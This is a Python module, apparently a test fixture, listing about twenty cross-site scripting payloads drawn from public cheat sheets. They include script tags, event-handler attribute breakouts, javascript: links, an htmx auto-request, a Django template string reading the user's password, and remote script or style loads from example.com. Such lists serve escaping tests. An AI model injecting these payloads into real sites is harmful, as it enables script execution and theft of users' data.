"""Texts that run as a script, or change the page, wherever a page writes them without escaping.

Sources, by the letter at each value:

A. OWASP, XSS Filter Evasion Cheat Sheet, https://cheatsheetseries.owasp.org (CC BY-SA 4.0).
B. PortSwigger, Cross-site scripting cheat sheet, https://portswigger.net/web-security/cross-site-scripting/cheat-sheet.
C. HTML5 Security Cheatsheet, https://html5sec.org (MPL 2.0).
D. Big List of Naughty Strings, https://github.com/minimaxir/big-list-of-naughty-strings (MIT).
E. The htmx and Django documentation: attributes of htmx, and the languages of templates.
"""

PAYLOADS = {
    "a script": "<script>alert(1)</script>",  # A
    "a script in capitals": "<SCRIPT SRC=//example.com/x.js></SCRIPT>",  # A
    "the end of a script": "</script><script>alert(1)</script>",  # A
    "the end of a text area": "</textarea><img src=x onerror=alert(1)>",  # B
    "the end of a title": "</title><svg onload=alert(1)>",  # B
    "the end of an attribute": '"><img src=x onerror=alert(1)>',  # A
    "an attribute": '" onmouseover=alert(1) x="',  # A
    "an attribute in single quotes": "' onfocus='alert(1)' autofocus='",  # A
    "an attribute without quotes": "x onerror=alert(1)",  # B
    "a link": "javascript:alert(1)",  # A
    "a link with a tab": "java\tscript:alert(1)",  # A
    "a link to data": "data:text/html,<script>alert(1)</script>",  # A
    "details": "<details open ontoggle=alert(1)>",  # B
    "mathematics": "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",  # C
    "a frame": "<iframe srcdoc='<script>alert(1)</script>'>",  # B
    "a comment": "--!><svg/onload=alert(1)>",  # C
    "a base": "<base href=//example.com/>",  # C
    "a style": "<style>@import '//example.com/x.css';</style>",  # A
    "a request of htmx": "<b hx-get=/ hx-trigger=load hx-target=body>",  # E
    "a template": "{{ request.user.password }}{% load static %}",  # E
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;svg onload=alert(1)&#x3e;",  # A
    "broken Unicode": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",  # D
}
SHORT = PAYLOADS["the end of an attribute"]
TEXT = "\n".join(PAYLOADS.values())
OBJECT = {**{f"{name} {text}": text for name, text in PAYLOADS.items()}, "list": list(PAYLOADS.values())}
